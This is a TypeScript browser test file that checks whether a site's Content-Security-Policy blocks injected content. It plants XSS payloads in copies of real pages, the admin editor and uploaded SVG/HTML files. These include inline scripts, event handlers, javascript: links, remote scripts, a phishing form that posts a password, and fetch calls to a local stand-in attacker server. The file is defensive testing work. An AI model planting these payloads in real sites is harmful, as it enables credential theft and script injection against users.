import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { watchPolicy } from '../support/csp.ts';
import { DIST_DIR } from '../support/paths.ts';
import { type RunningServer, serveDist } from '../support/static-server.ts';

// What an attacker would put into a page or an upload if content checks ever let it through:
// a copy of the built site with payloads planted in real pages and in /media/, served with the
// site's _headers (and once without, for hosts that ignore the file). Every payload tries to mark
// the page (data-pwned on <html>) or call the attacker's server; neither may happen. A control
// case shows the same payload does run once the policy is gone, so these tests can fail.

const BASE_PAGE = 'regulations/omsk-polozhenie-o-msp-2021/index.html';
const SEARCH_PAGE = 'search/index.html';

let work: string;
let site: string;
let browser: Browser;
let withHeaders: RunningServer;
let withoutHeaders: RunningServer;
let noPolicy: RunningServer;
let attacker: { url: string; hits: string[]; server: Server };

/** The attacker's origin: serves a script that marks the page, and records every request. */
async function startAttacker(): Promise<typeof attacker> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('access-control-allow-origin', '*');
    if (req.url?.startsWith('/evil.js')) {
      res.setHeader('content-type', 'text/javascript');
      return res.end("document.documentElement.dataset.pwned = 'remote script';");
    }
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><title>evil</title><iframe id="victim" src="${req.url?.slice('/frame?'.length) ?? ''}"></iframe>`);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

const MARK = "document.documentElement.dataset.pwned='1'";

/** Copies a real page with `payload` put at the end of its <main>, as stored XSS would sit. */
function plant(name: string, payload: string, from = BASE_PAGE, dir = site): string {
  const folder = `${from.split('/')[0]}/hostile-${name}`;
  const html = readFileSync(join(DIST_DIR, from), 'utf8');
  if (!html.includes('</main>')) throw new Error(`${from} has no </main>`);
  mkdirSync(join(dir, folder), { recursive: true });
  writeFileSync(join(dir, folder, 'index.html'), html.replace('</main>', `${payload}</main>`));
  return `/${folder}/`;
}

/** Writes an uploaded file into the copy's /media/. */
function upload(name: string, content: string): string {
  mkdirSync(join(site, 'media'), { recursive: true });
  writeFileSync(join(site, 'media', name), content);
  return `/media/${name}`;
}

const PAYLOADS: Record<string, string> = {
  'inline-script': `<script>${MARK}</script>`,
  'onerror-handler': `<img src="/no-such-image.png" onerror="${MARK}">`,
  'javascript-url': `<a id="bait" href="javascript:${MARK}">Скачать</a>`,
  'svg-onload': `<svg onload="${MARK}"><circle r="5"/></svg>`,
  'data-url-script': `<script src="data:text/javascript,${encodeURIComponent(MARK)}"></script>`,
  'inline-style': '<style>main { display: none !important }</style>',
  'style-attribute': '<p id="hidden-by-attack" style="display:none">видно</p>',
};

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'hostile-headers-'));
  site = join(work, 'site');
  cpSync(DIST_DIR, site, { recursive: true });
  attacker = await startAttacker();
  for (const [name, payload] of Object.entries(PAYLOADS)) plant(name, payload);
  plant('remote-script', `<script src="${attacker.url}/evil.js"></script>`);
  plant('iframe', `<iframe id="injected-frame" src="${attacker.url}/framed"></iframe>`);
  plant('object', `<object id="injected-object" data="${attacker.url}/plugin.swf" type="application/x-shockwave-flash"></object>`);
  plant('base', `<base href="${attacker.url}/">`);
  plant('form', `<form id="phish" action="${attacker.url}/steal" method="get"><input name="password" value="secret"></form>`);
  plant('search-inline-script', `<script>${MARK}</script>`, SEARCH_PAGE);
  // The editor: the most valuable page to attack (it holds the git host's token).
  const admin = readFileSync(join(DIST_DIR, 'admin/index.html'), 'utf8');
  mkdirSync(join(site, 'admin/hostile'), { recursive: true });
  writeFileSync(join(site, 'admin/hostile/index.html'), admin.replace('</body>', `<script>${MARK}</script><img src=x onerror="${MARK}"></body>`));
  // Uploads that would run on the site's origin if opened.
  const ping = (what: string) => `fetch('${attacker.url}/ping?${what}');document.documentElement.setAttribute('data-pwned','1')`;
  upload('logo.svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>${ping('svg-script')}</script><circle r="5"/></svg>`);
  upload('badge.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${ping('svg-onload')}"><circle r="5"/></svg>`);
  upload('report.html', `<!doctype html><p>Отчёт</p><script>${ping('html')}</script>`);
  // A host that ignores _headers, and the control: a copy with the <meta> policy removed as well.
  const bare = join(work, 'bare');
  mkdirSync(bare, { recursive: true });
  plant('control', `<script>${MARK}</script>`, BASE_PAGE, bare);
  const control = join(bare, 'regulations/hostile-control/index.html');
  writeFileSync(control, readFileSync(control, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
  [withHeaders, withoutHeaders, noPolicy, browser] = await Promise.all([
    serveDist(site),
    serveDist(site, { headers: false }),
    serveDist(bare, { headers: false }),
    launchChromium(),
  ]);
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([withHeaders?.close(), withoutHeaders?.close(), noPolicy?.close()]);
  await new Promise((done) => attacker?.server.close(done));
  rmSync(work, { recursive: true, force: true });
});

async function visit(url: string, server = withHeaders): Promise<{ page: Page; reports: string[] }> {
  const page = await browser.newPage();
  const reports = await watchPolicy(page);
  page.on('dialog', (dialog) => dialog.dismiss().catch(() => undefined));
  await page.goto(`${server.url}${url}`, { waitUntil: 'load' });
  await page.waitForTimeout(300);
  return { page, reports };
}

const pwned = (page: Page) => page.evaluate(() => document.documentElement.dataset.pwned ?? null);
const violated = (reports: string[], directive: string) => reports.some((report) => report.startsWith(`${directive} `));

describe('injected into a page, nothing runs', () => {
  it('control: without any policy the planted script does run', async () => {
    const { page } = await visit('/regulations/hostile-control/', noPolicy);
    expect(await pwned(page)).toBe('1');
    await page.close();
  });

  it('an inline <script>', async () => {
    const { page, reports } = await visit('/regulations/hostile-inline-script/');
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-elem')).toBe(true);
    await page.close();
  });

  it('an onerror= handler on an image', async () => {
    const { page, reports } = await visit('/regulations/hostile-onerror-handler/');
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-attr')).toBe(true);
    await page.close();
  });

  it('an onload= handler on inline SVG', async () => {
    const { page, reports } = await visit('/regulations/hostile-svg-onload/');
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-attr')).toBe(true);
    await page.close();
  });

  it('a javascript: link, clicked', async () => {
    const { page, reports } = await visit('/regulations/hostile-javascript-url/');
    await page.locator('#bait').click();
    await page.waitForTimeout(300);
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-elem')).toBe(true);
    await page.close();
  });

  it('a script from another origin', async () => {
    const { page, reports } = await visit('/regulations/hostile-remote-script/');
    expect(await pwned(page)).toBeNull();
    expect(attacker.hits.filter((hit) => hit.startsWith('/evil.js'))).toEqual([]);
    expect(violated(reports, 'script-src-elem')).toBe(true);
    await page.close();
  });

  it('a script in a data: URL', async () => {
    const { page, reports } = await visit('/regulations/hostile-data-url-script/');
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-elem')).toBe(true);
    await page.close();
  });

  it('an inline <style> that would hide the document', async () => {
    const { page, reports } = await visit('/regulations/hostile-inline-style/');
    await expect(page.locator('main').isVisible()).resolves.toBe(true);
    expect(violated(reports, 'style-src-elem')).toBe(true);
    await page.close();
  });

  it('a style= attribute', async () => {
    const { page, reports } = await visit('/regulations/hostile-style-attribute/');
    await expect(page.locator('#hidden-by-attack').isVisible()).resolves.toBe(true);
    expect(violated(reports, 'style-src-attr')).toBe(true);
    await page.close();
  });

  it('an <iframe> and an <object> from another origin', async () => {
    for (const [url, directive] of [['/regulations/hostile-iframe/', 'frame-src'], ['/regulations/hostile-object/', 'object-src']]) {
      const { page, reports } = await visit(url);
      expect(violated(reports, directive), url).toBe(true);
      await page.close();
    }
    expect(attacker.hits.filter((hit) => hit.startsWith('/framed') || hit.startsWith('/plugin'))).toEqual([]);
  });

  it('a <base> pointing at another origin leaves the page’s own links alone', async () => {
    const { page, reports } = await visit('/regulations/hostile-base/');
    expect(await page.evaluate(() => document.baseURI)).toBe(`${withHeaders.url}/regulations/hostile-base/`);
    expect(violated(reports, 'base-uri')).toBe(true);
    await page.close();
  });

  it('a form that would send what is typed to another origin', async () => {
    const { page, reports } = await visit('/regulations/hostile-form/');
    await page.evaluate(() => (document.getElementById('phish') as HTMLFormElement).requestSubmit());
    await page.waitForTimeout(500);
    expect(attacker.hits.filter((hit) => hit.startsWith('/steal'))).toEqual([]);
    expect(violated(reports, 'form-action')).toBe(true);
    await page.close();
  });

  it('an inline <script> on the search page, whose worker may compile WebAssembly', async () => {
    const { page } = await visit('/search/hostile-search-inline-script/');
    expect(await pwned(page)).toBeNull();
    await page.close();
  });

  it('an inline <script> and handler in the editor', async () => {
    const { page, reports } = await visit('/admin/hostile/');
    expect(await pwned(page)).toBeNull();
    expect(violated(reports, 'script-src-elem')).toBe(true);
    await page.close();
  });
});

describe('on a host that ignores _headers, the <meta> policy still holds', () => {
  it('an inline <script> and an onerror= handler do not run', async () => {
    for (const url of ['/regulations/hostile-inline-script/', '/regulations/hostile-onerror-handler/']) {
      const { page, reports } = await visit(url, withoutHeaders);
      expect(await pwned(page), url).toBeNull();
      expect(reports.length, url).toBeGreaterThan(0);
      await page.close();
    }
  });
});

describe('framing', () => {
  async function frameOnAttackerSite(server: RunningServer) {
    const page = await browser.newPage();
    await page.goto(`${attacker.url}/frame?${server.url}/regulations/omsk-polozhenie-o-msp-2021/`);
    await page.waitForTimeout(500);
    return { page, frame: page.frames().find((f) => f !== page.mainFrame()) };
  }

  it('control: a <meta> policy cannot forbid framing, so a host that ignores _headers allows it', async () => {
    const { page, frame } = await frameOnAttackerSite(withoutHeaders);
    await expect(frame?.locator('main').count()).resolves.toBe(1);
    await page.close();
  });

  it('another site cannot show a page in a frame (clickjacking)', async () => {
    const { page, frame } = await frameOnAttackerSite(withHeaders);
    // Chromium shows its own error page in the frame instead of the document.
    expect(frame?.url()).toMatch(/^chrome-error:/);
    await expect(frame?.locator('main').count()).resolves.toBe(0);
    await expect(frame?.getByText('Положение о муниципальной стажировочной площадке').count()).resolves.toBe(0);
    await page.close();
  });
});

describe('uploads in /media/ are inert when opened', () => {
  it('control: served without the /media/ policy, an SVG’s script runs on the site’s origin', async () => {
    const { page } = await visit('/media/logo.svg', withoutHeaders);
    expect(await page.evaluate(() => document.documentElement.getAttribute('data-pwned'))).toBe('1');
    await page.close();
  });

  for (const [name, what] of [['logo.svg', 'svg-script'], ['badge.svg', 'svg-onload'], ['report.html', 'html']]) {
    it(`${name}: its script does not run on the site’s origin`, async () => {
      attacker.hits.length = 0;
      const { page } = await visit(`/media/${name}`);
      expect(await page.evaluate(() => document.documentElement.getAttribute('data-pwned'))).toBeNull();
      expect(await page.evaluate(() => origin)).toBe('null');
      expect(attacker.hits.filter((hit) => hit.includes(what))).toEqual([]);
      await page.close();
    });
  }
});
